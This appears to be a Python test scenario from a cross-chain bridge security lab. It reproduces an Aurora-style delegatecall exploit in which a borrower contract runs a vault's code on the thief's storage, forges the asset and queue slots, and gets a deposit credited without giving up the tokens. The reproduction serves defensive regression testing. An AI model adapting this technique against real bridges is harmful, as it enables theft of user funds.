"""Aurora: an exit's code, run by delegation on other storage, burnt nothing."""

from __future__ import annotations

from bridge.abi import mapping_slot
from bridge.relaying import packets_in
from clearspan.lab.scenarios.banking import DEPOSIT, FOREVER, carry, held, vault_of
from clearspan.lab.scenarios.base import Scenario, Stage, Twin, Verdict
from clearspan.lab.scenarios.moves import LOOT, Heist
from contracts import storage_slot

LISTED = int.from_bytes(b"\x01" * 8, "big") << 16 | 0x0101
"""What the vault's book holds for an accepted asset."""


def attack(stage: Stage) -> Verdict:
    """The vault's code on the thief's storage: the tokens stay with the thief, the message goes out."""
    with stage.world() as world:
        heist = Heist(world)
        source, thief = heist.source, heist.thief
        borrower = source.deploy("TestBorrower", [], thief)
        token = source.contract("TestToken", heist.token)
        source.transact(token.functions.approve(borrower.address, FOREVER), thief)
        key = int(heist.token, 16).to_bytes(32, "big")
        for slot, value in (
            (mapping_slot(key, storage_slot("CollateralVault", "assetOf")), LISTED),
            (storage_slot("CollateralVault", "forcedQueue"), int(heist.network.settlement.forced_queue, 16)),
        ):
            source.transact(borrower.functions.write(slot, value), thief)
        call = vault_of(heist).encode_abi(DEPOSIT, [heist.token, LOOT, thief.address, 0])
        borrow = borrower.functions.borrow(heist.entry.vault, bytes.fromhex(call[2:]))
        (packet,) = packets_in(heist.way.source, source.transact(borrow, thief))
        status = carry(heist, packet)
        there = held(source, heist.token, heist.entry.vault)
        return Verdict(
            survived=heist.loot <= there,
            detail=f"answered {status.name if status else 'not at all'}; credited {heist.loot} base units, "
            f"the vault holds {there}",
        )


SCENARIO = Scenario(
    identifier="incident-41",
    title="The vault's code runs on the thief's storage",
    group="C5",
    source="Aurora, Jun 2022, $6M bounty",
    attack=attack,
    twin=Twin(mutation="the queue believes any sender", contracts=(("ForcedQueue", "queue-any-vault"),)),
)
